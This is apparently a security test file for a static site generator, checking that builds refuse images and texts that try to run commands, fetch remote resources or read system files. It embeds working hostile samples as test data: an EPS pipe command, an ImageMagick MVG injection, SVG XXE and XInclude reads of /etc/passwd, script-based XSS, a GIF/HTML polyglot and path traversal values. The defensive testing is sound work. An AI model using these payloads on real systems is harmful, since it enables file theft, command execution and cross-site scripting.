"""Tests that no content makes a build start a process, open a connection, or access foreign files."""

# ruff: noqa: E501 (a file is read best in one piece)
from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from PIL import Image

ROOT = Path(__file__).parents[2]
BASE = ROOT / "tests/scenarios/base"
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch /tmp/pwned) (w) file\nshowpage\n"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(touch)>>>>endobj\ntrailer<</Root 1 0 R>>\n"
MVG = b"push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://canary.example/x.png\"|id\")'\npop graphic-context\n"
SVGS = {
    "entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "parameter entity": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://canary.example/"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>',
    "doctype": b'<!DOCTYPE svg SYSTEM "http://canary.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>',
    "image": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    "use": b'<svg xmlns="http://www.w3.org/2000/svg"><use href="http://canary.example/x.svg#a"/></svg>',
    "import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(//canary.example);</style></svg>',
    "sheet": b'<?xml-stylesheet href="//canary.example"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "include": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></svg>',
    "script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
}


def audited_build(site: Path) -> dict[str, list[str]]:
    process = subprocess.run(
        [sys.executable, "-m", "tests.hostile.audited", str(site)], cwd=ROOT, capture_output=True, text=True, check=True
    )
    log: dict[str, list[str]] = json.loads(process.stdout.splitlines()[-1])
    places = (site, ROOT, sys.prefix, sys.base_prefix, "/usr/share/zoneinfo", "/usr/lib")
    allowed_folders = [str(Path(place).resolve()) for place in places]
    assert log["forbidden"] == []
    foreign_paths = [path for path in log["reads"] if not path.startswith(tuple(allowed_folders))]
    assert [path for path in foreign_paths if path not in ("/dev/null", "/dev/urandom", "/proc/cpuinfo")] == []
    own_folders = (str(site.resolve() / "output"), str(site.resolve() / ".ambassador"), str(site.resolve() / ".output"))
    assert [path for path in log["writes"] if not path.startswith(own_folders) and path != str(site.resolve())] == []
    assert any("content/site.yaml" in path for path in log["reads"]), "the hook saw nothing"
    return log


@pytest.fixture
def site(tmp_path: Path) -> Path:
    shutil.copytree(BASE, tmp_path / "site")
    return tmp_path / "site"


def test_the_audit_hook_sees_a_good_build(site: Path) -> None:
    """The hook reports reads and writes, so an empty report of the other tests proves something."""
    content = site / "content"
    Image.new("RGB", (600, 700), "#c08070").save(content / "ambassadors/lea/dot.jpg")
    with (content / "ambassadors/lea/profile.yaml").open("a") as file:
        file.write("portrait: {src: dot.jpg, alt: x}\n")
    with (content / "site.yaml").open("a") as file:
        file.write("logo: logo.svg\n")
    (content / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>'
    )
    log = audited_build(site)
    assert log["code"] == 0, log["output"]
    assert any(path.endswith("dot.jpg") for path in log["reads"])
    assert any("output" in path for path in log["writes"])


def test_pictures_that_are_programs_are_refused_and_not_run(site: Path) -> None:
    content = site / "content"
    steps = []
    for name, data in {"a.eps": EPS, "b.jpg": EPS, "c.png": PDF, "d.pdf": PDF, "e.mvg": MVG, "f.jpg": MVG}.items():
        (content / "ambassadors/lea" / name).write_bytes(data)
        steps.append(f"{{text: x, image: {name}, alt: x}}")
    for number, data in enumerate(SVGS.values()):
        (content / f"ambassadors/lea/s{number}.svg").write_bytes(data)
        steps.append(f"{{text: x, image: s{number}.svg, alt: x}}")
    with (content / "ambassadors/lea/profile.yaml").open("a") as file:
        file.write(f"routine: {{steps: [{', '.join(steps)}]}}\n")
    log = audited_build(site)
    assert log["code"] == 1
    assert str(log["output"]).count("error[not-a-picture]") == len(steps)
    assert not Path("/tmp/pwned").exists()


@pytest.mark.parametrize("name", SVGS)
def test_a_hostile_logo_is_harmless(site: Path, name: str) -> None:
    (site / "content/logo.svg").write_bytes(SVGS[name])
    with (site / "content/site.yaml").open("a") as file:
        file.write("logo: logo.svg\n")
    log = audited_build(site)
    assert log["code"] == (0 if name in ("doctype", "include") else 1), log["output"]
    for file in (site / "output").rglob("*.svg"):
        assert b"canary" not in file.read_bytes()
        assert b"passwd" not in file.read_bytes()


def test_a_logo_that_is_also_a_page_is_published_as_a_picture(site: Path) -> None:
    """The build publishes only the picture, under a name of a picture."""
    polyglot = site / "content/logo.html"
    Image.new("RGB", (60, 20), "#c08070").save(polyglot, "GIF")
    with polyglot.open("ab") as file:
        file.write(b"<script>alert(1)</script>")
    with (site / "content/site.yaml").open("a") as file:
        file.write("logo: logo.html\n")
    log = audited_build(site)
    assert log["code"] == 0, log["output"]
    logos = list((site / "output/assets").glob("logo.*"))
    assert [logo.suffix for logo in logos] == [".png"]
    assert b"<script" not in logos[0].read_bytes()


def test_foreign_addresses_and_paths_in_texts_are_not_opened(site: Path) -> None:
    with (site / "content/site.yaml").open("a") as file:
        file.write("timezone: ../../etc/passwd\nlocale: ../../etc\n")
    (site / "content/ambassadors/lea/story.md").write_text(
        "![x](https://canary.example/x.png)\n\n![x](file:///etc/passwd)\n\n<img src=//canary.example/y>\n\n[x](file:///etc/passwd)\n"
    )
    assert audited_build(site)["code"] == 1
